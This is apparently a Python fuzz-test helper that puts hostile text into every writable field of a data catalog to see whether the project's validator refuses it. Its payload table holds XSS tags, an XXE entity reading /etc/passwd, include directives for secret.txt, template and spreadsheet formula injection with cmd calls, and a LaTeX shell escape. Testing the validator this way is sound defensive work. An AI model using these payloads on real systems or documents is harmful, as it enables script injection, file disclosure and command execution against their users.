"""Every text field of the model with hostile words in it, as far as the check lets them in; nothing is built here.

The fields are found in the models themselves, so that a new one is tried without a line here. Each has a mark of its
own by which it is known again in every output. tests/fuzz/outputs.py says what came of it.
"""

from __future__ import annotations

import csv
import types
import typing
from collections.abc import Iterator, Mapping
from copy import deepcopy
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Annotated, Any, Literal, NamedTuple, get_args, get_origin

import yaml
from pydantic import BaseModel

from terror_estimates.catalog import Catalog, read_bytes
from terror_estimates.catalog.catalog import Catalog as Model
from terror_estimates.catalog.period import Period
from terror_estimates.catalog.text import read_text
from terror_estimates.catalog.yaml_text import Document

TABLE = Path(__file__).with_name("hostile.csv")
CATALOGS = Path(__file__).parents[1] / "catalogs"
COMPUTED = {"digest", "declared", "releases", "holds", "own_entries"}  # sections that no person writes as text
NAMED = {"id", "table"}  # the key of an entry is its id, and a cell knows its table

KINDS = {
    "script": '<script src="{to}/{mark}"></script>',
    "handler": '<img src={to}/{mark} onerror=fetch("{to}/{mark}")>',
    "closing script": '</script></style></title></textarea><script>fetch("{to}/{mark}")</script>',
    "closing SVG": '</text></svg></table><svg onload=fetch("{to}/{mark}")></svg>',
    "style": '<style>@import "{to}/{mark}";*{{display:none}}</style><link rel=stylesheet href={to}/{mark}>',
    "link: javascript": "[x](javascript:fetch`{to}/{mark}`) <javascript:alert`{mark}`>",
    "link: data": "![x](data:text/html,<script>{mark}</script>) <a href=data:text/html,{mark}>",
    "picture": "![x]({to}/{mark}) <iframe src={to}/{mark}></iframe>",
    "XML": "]]><!--{mark} --><?php {mark} ?><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "MyST directive": "x\n\n```{{include}} secret.txt\n```\n\n:::{{include}} secret.txt\n:::\n\n",
    "rST in MyST": "x\n\n```{{eval-rst}}\n.. raw:: html\n   :file: secret.txt\n```\n\n",
    "rST directive": "x\n\n.. include:: secret.txt\n\n.. raw:: html\n   :url: {to}/{mark}\n\n",
    "role": "{{download}}`secret.txt` {{raw-html}}`<b id={mark}>` :download:`secret.txt` `x <{to}/{mark}>`_ ",
    "braces": "{{{{ 7 * 191 }}}} {{% include 'secret.txt' %}} ${{7*191}} <%= 7*191 %> ",
    "math": "$\\input{{secret.txt}}$ $$\\href{{javascript:{mark}}}{{x}}$$ \\(x\\) ",
    "formula =": '=HYPERLINK("{to}/{mark}")&7*191',
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0 ",
    "formula +": "+cmd|' /C {mark}'!A0 ",
    "BibTeX": '}}}},\n@string{{x = "{mark}"}} \\write18{{ls}} \\input{{secret.txt}} % ',
    "RIS": "x\nER  - \n\nTY  - BOOK\nTI  - ",
    "JSON": '"}}],"{mark}":[{{"\\u003cscript\\u003e" ',
    "PDF": "x) /URI (javascript:{mark}) >> endobj ",
    "ANSI": "\x1b]0;{mark}\x07\x1b[2J\x9b31m",
}
# What goes into one text together, each within the length of a name; the last is refused wherever it stands.
VOLLEYS = {
    "markup": ("script", "handler", "closing script"),
    "pictures": ("closing SVG", "style", "XML"),
    "links": ("link: javascript", "link: data", "picture"),
    "directives": ("MyST directive", "rST in MyST", "rST directive"),
    "roles": ("role", "braces", "math"),
    "formula =": ("formula =", "BibTeX"),
    "formula @": ("formula @", "RIS", "PDF"),
    "formula +": ("formula +", "JSON"),
    "ANSI": ("ANSI",),
}


class Field(NamedTuple):
    """A text of the model; `name` is `key` where the text is the key of a mapping."""

    model: str
    name: str

    def __str__(self) -> str:
        return f"{self.model}.{self.name}"


Place = tuple[str | int, ...]


# ---- which fields there are, and where they stand in a catalog ---------------------------------------------------


def fields_of(model: type[BaseModel] = Model, seen: frozenset[type[BaseModel]] = frozenset()) -> Iterator[Field]:
    """Every text that a person can write into an entry, by reflection."""
    for name, shape in _written(model):
        for part in _parts(shape):
            if _is_text(part):
                yield Field(model.__name__, name)
            elif get_origin(part) is dict:
                yield Field(model.__name__, f"{name}, keys")
            for inner in _models(part):
                if inner not in seen:
                    yield from fields_of(inner, seen | {model, inner})
            if any(map(_is_text, _held(part))):
                yield Field(model.__name__, name)


def places_of(model: type[BaseModel], entry: Any, at: Place = ()) -> Iterator[tuple[Field, Place, bool]]:
    """Every place in an entry where a text stands, or could; the last says whether one stands there."""
    for name, shape in _written(model):
        for part in _parts(shape):
            yield from _in(Field(model.__name__, name), part, entry.get(name), (*at, name), name in entry)


def _in(of: Field, part: Any, held: Any, at: Place, stands: bool) -> Iterator[tuple[Field, Place, bool]]:
    origin, inner = get_origin(part), get_args(part)
    if _is_text(part):
        if held is None or isinstance(held, str):
            yield of, at, stands
    elif part is Any:
        yield from ((Field(of.model, f"{of.name}: {path[-1]}"), path, True) for path in _texts(held, at))
    elif isinstance(part, type) and issubclass(part, BaseModel):
        if isinstance(held, dict):
            yield from places_of(part, held, at)
    elif origin is tuple:
        if isinstance(held, dict):  # one stands for a list of one
            yield from (found for one in _parts(inner[0]) for found in _in(of, one, held, at, True))
        if held is None and any(map(_is_text, _parts(inner[0]))):
            yield of, (*at, 0), False
        for place, one in enumerate(held if isinstance(held, list) else ()):
            yield from (found for shape in _parts(inner[0]) for found in _in(of, shape, one, (*at, place), True))
    elif origin is dict:
        for key, one in (held or {}).items():
            yield Field(of.model, f"{of.name}, keys"), (*at, key, KEY), True
            yield from (found for shape in _parts(inner[1]) for found in _in(of, shape, one, (*at, key), True))


KEY = "the key itself"


def _written(model: type[BaseModel]) -> Iterator[tuple[str, Any]]:
    """The names of the fields that a person writes, with their types."""
    hidden = (
        COMPUTED if model is Model else NAMED if "id" in model.model_fields and model.__name__ != "Event" else set()
    )
    for name, shape in model.model_fields.items():
        if name not in hidden:
            yield shape.alias or name, shape.annotation


def _parts(shape: Any) -> Iterator[Any]:
    """The alternatives of a type, without what is annotated to it."""
    if get_origin(shape) is Annotated:
        yield from _parts(get_args(shape)[0])
    elif get_origin(shape) in (typing.Union, types.UnionType):
        for one in get_args(shape):
            yield from _parts(one)
    elif shape is not types.NoneType:
        yield shape


def _is_text(part: Any) -> bool:
    words = get_origin(part) is Literal and all(isinstance(word, str) for word in get_args(part))
    return part is str or part is Period or words


def _held(part: Any) -> list[Any]:
    """What a list or a mapping holds."""
    inner = get_args(part)
    if get_origin(part) is dict:
        return [one for shape in _parts(inner[1]) for one in ([shape] if get_origin(shape) is not dict else [Any])]
    return list(_parts(inner[0])) if get_origin(part) is tuple else []


def _models(part: Any) -> Iterator[type[BaseModel]]:
    for one in (part, *_held(part)):
        if isinstance(one, type) and issubclass(one, BaseModel):
            yield one


def _texts(held: Any, at: Place) -> Iterator[Place]:
    if isinstance(held, str):
        yield at
    elif isinstance(held, (dict, list)):
        for key, one in held.items() if isinstance(held, dict) else enumerate(held):
            yield from _texts(one, (*at, key))


# ---- a catalog in which every field has a place ------------------------------------------------------------------


@cache
def whole() -> dict[str, Any]:
    """The invented flood, with what it does not use itself added to it, so that every field stands somewhere."""
    data = yaml.safe_load((CATALOGS / "invented.yaml").read_text(encoding="utf-8"))
    for path, more in yaml.safe_load((CATALOGS / "everything.yaml").read_text(encoding="utf-8")).items():
        *above, last = path.split(".")
        place = data
        for step in above:
            place = place.setdefault(step, {})
        place[last] = more
    return data


@cache
def known() -> dict[Field, tuple[Place, ...]]:
    """The places of every field: those where a text stands already, else all where one could."""
    found: dict[Field, list[tuple[Place, bool]]] = {one: [] for one in fields_of()}
    for of, at, stands in places_of(Model, whole()):
        found.setdefault(of, []).append((at, stands))
    standing = {of: [at for at, stands in places if stands] for of, places in found.items()}
    return {of: tuple(standing[of] or [at for at, _ in places]) for of, places in found.items()}


def mark(number: int) -> str:
    """The mark of the field of that number: letters only, since a number in a print would be read."""
    return f"qz{chr(97 + number // 26)}{chr(97 + number % 26)}zq"


# ---- the catalog under attack -------------------------------------------------------------------------------------


class Try(NamedTuple):
    """A text for a field, at all its places or only at the first."""

    text: str
    everywhere: bool


@dataclass
class Charged:
    """A sound catalog with hostile words in every field that lets them in; `refused` has the rule of every other."""

    data: dict[str, Any]
    catalog: Catalog
    texts: dict[Field, str] = field(default_factory=dict)
    refused: dict[Field, str] = field(default_factory=dict)

    @property
    def raw(self) -> bytes:
        return dumped(self.data)


def charged(volleys: Mapping[Field, str] | str, to: str) -> Charged:
    """The whole catalog under a volley, or with one of its own for each field; `to` is whom hostile words call."""
    chosen = {of: volleys if isinstance(volleys, str) else volleys[of] for of in known()}
    found = settled({of: tries(of, chosen[of], to) for of in known() if of not in closed()})
    last = {of: Try(forms(of, chosen[of], to)[-1], False) for of in closed()}
    found.refused |= dict(closed()) if _in_vain(last) else refusals(last)
    told = found.texts.keys() | found.refused.keys()
    assert told == known().keys(), f"neither let in nor refused: {[str(of) for of in known() if of not in told]}"
    return found


def tries(of: Field, volley: str, to: str) -> list[Try]:
    """What is tried at a field, one after the other, until the check lets something in."""
    return [Try(form, everywhere) for everywhere in (True, False) for form in forms(of, volley, to)]


def forms(of: Field, volley: str, to: str) -> list[str]:
    """A volley in the forms in which a field may take it: as it is, on one line, short, or as part of something else.

    Parts are the words that stand there (AFTER), the address of a page, and an identifier.
    """
    number = list(known()).index(of)
    said = [KINDS[kind].format(to=to, mark=mark(number)) for kind in VOLLEYS[volley]]
    plain = "".join(said) + mark(number)
    single = " ".join(plain.split()) if volley != "ANSI" else plain
    unquoted = single.translate(_UNQUOTED)
    short = f"{said[0].strip().splitlines()[0]} {mark(number)}".translate(_UNQUOTED)
    close = "".join(plain.split())
    parts = [AFTER + unquoted, AFTER + short, f"https://floods.example/{close}", f"10.1234/{close}"]
    return list(dict.fromkeys([plain, single, unquoted, short, *parts]))


AFTER = "\0"  # in front of a form: it comes after the words that stand there
_UNQUOTED = str.maketrans("\"'", "``")


@cache
def closed() -> Mapping[Field, str]:
    """The fields that take no word but their own (ids, dates, closed lists), each with the rule that says so.

    The table that was kept names them; a field that it does not know yet is asked with harmless words.
    """
    asked = {of: number for number, of in enumerate(known()) if of not in kept()}
    rules: dict[Field, str] = {}
    for form in ("{0}", AFTER + "{0}", "https://floods.example/{0}", "10.1234/{0}"):
        for everywhere in (True, False):
            rules = refusals({of: Try(form.format(mark(number)), everywhere) for of, number in asked.items()})
            asked = {of: number for of, number in asked.items() if of in rules}
    return {of: rule for of, rule in kept().items() if rule and of in known()} | rules


@cache
def kept() -> Mapping[Field, str]:
    """The rule that refuses every word in a field, '' where none does, by the table of the last time all was tried."""
    if not TABLE.is_file():
        return {}
    with TABLE.open(encoding="utf-8", newline="") as opened:
        return {Field(*row["field"].split(".", 1)): row["refused by"] for row in csv.DictReader(opened)}


def _in_vain(tried: Mapping[Field, Try]) -> bool:
    """Whether texts put into all these fields at once are refused at the line or in the entry of each."""
    wanted = {of: [said] for of, said in tried.items()}
    data, at = _filled(wanted, dict.fromkeys(wanted, 0))
    raw = dumped(data)
    problems = read_bytes(raw)[1].problems
    entries = {problem.entry for problem in problems}
    lines = _at_lines(raw, problems, at)
    return all(of in lines or any(str(key) in entries for key in at[of][0]) for of in wanted)


def refusals(tries: Mapping[Field, Try]) -> dict[Field, str]:
    """Which of these texts the check refuses, each tried for itself, with the rule."""
    wanted = {of: [said] for of, said in tries.items()}
    data, at = _filled(wanted, dict.fromkeys(wanted, 0))
    raw = dumped(data)
    found = _at_lines(raw, read_bytes(raw)[1].problems, at)
    for of in wanted.keys() - found.keys():
        report = read_bytes(dumped(_filled({of: wanted[of]}, {of: 0})[0]))[1]
        found |= {of: report.problems[0].rule} if report.problems else {}
    return found


def settled(wanted: Mapping[Field, list[Try]]) -> Charged:
    """Put the first text that the check lets in into each field; a field that takes none keeps its own words."""
    tried = dict.fromkeys(wanted, 0)
    refused: dict[Field, str] = {}
    for _ in range(100):
        data, at = _filled(wanted, tried)
        raw = dumped(data)
        catalog, report = read_bytes(raw)
        if catalog is not None:
            texts = {of: wanted[of][place].text for of, place in tried.items() if of not in refused}
            return Charged(data, catalog, texts, refused)
        blamed = _at_lines(raw, report.problems, at)
        if not blamed:
            entries = {problem.entry for problem in report.problems}
            near = {of for of, places in at.items() if any(str(key) in entries for key in places[0])}
            blamed = refusals({of: wanted[of][place] for of, place in tried.items() if of in near})
        for of, rule in blamed.items():
            tried[of] += 1
            if tried[of] == len(wanted[of]):
                refused[of] = rule
    raise AssertionError(f"no sound catalog was found: {report.lines()[:5]}")


def _at_lines(raw: bytes, problems: Any, at: dict[Field, list[Place]]) -> dict[Field, str]:
    """The fields at whose own lines a problem stands, each with the rule."""
    document = Document(read_text(raw))
    lines: dict[int, list[Field]] = {}
    for of, places in at.items():
        for place in places:
            lines.setdefault(document.line(place), []).append(of)
    return {of: problem.rule for problem in reversed(problems) for of in lines.get(problem.line, ())}


def _filled(
    wanted: Mapping[Field, list[Try]], tried: Mapping[Field, int]
) -> tuple[dict[str, Any], dict[Field, list[Place]]]:
    """The whole catalog with these forms, and where each stands now; keys last, since they move what they name."""
    data, at = deepcopy(whole()), {}
    moved: dict[Place, str] = {}
    for of in sorted(wanted, key=lambda one: one.name.endswith(", keys")):
        if tried[of] >= len(wanted[of]):
            continue
        form, everywhere = wanted[of][tried[of]]
        places = known()[of][: None if everywhere else 1]
        if of.name.endswith(", keys"):
            *above, key, _ = places[0]
            moved[(*above, key)] = form.lstrip(AFTER)
            at[of] = [places[0][:-1]]
        else:
            for place in places:
                _put(data, place, form)
            at[of] = list(places)
    for path in sorted(moved, key=len, reverse=True):
        *above, key = path
        held = _get(data, tuple(above))
        renamed = {moved[path] if one == key else one: said for one, said in held.items()}
        held.clear()
        held.update(renamed)
    at = {of: [_under(place, moved) for place in places] for of, places in at.items()}
    return data, at


def _under(place: Place, moved: Mapping[Place, str]) -> Place:
    return tuple(moved.get(place[: depth + 1], key) for depth, key in enumerate(place))


def _get(data: Any, at: Place) -> Any:
    for key in at:
        data = data[key]
    return data


def _put(data: Any, at: Place, text: str) -> None:
    *above, last = at
    if last == 0 and not isinstance(last, str):
        place = _get(data, tuple(above[:-1]))
        place.setdefault(above[-1], [""])
        data = place[above[-1]]
    else:
        data = _get(data, tuple(above))
    old = data[last] if isinstance(last, int) or last in data else ""
    data[last] = f"{old} {text[1:]}" if text.startswith(AFTER) else text


class _Plain(getattr(yaml, "CSafeDumper", yaml.SafeDumper)):
    """Writes every entry out, without anchors."""

    def ignore_aliases(self, data: Any) -> bool:
        return True


def dumped(data: Any) -> bytes:
    """A catalog as a file, one key a line."""
    return yaml.dump(
        data, Dumper=_Plain, allow_unicode=True, sort_keys=False, width=10**6, default_flow_style=False
    ).encode()
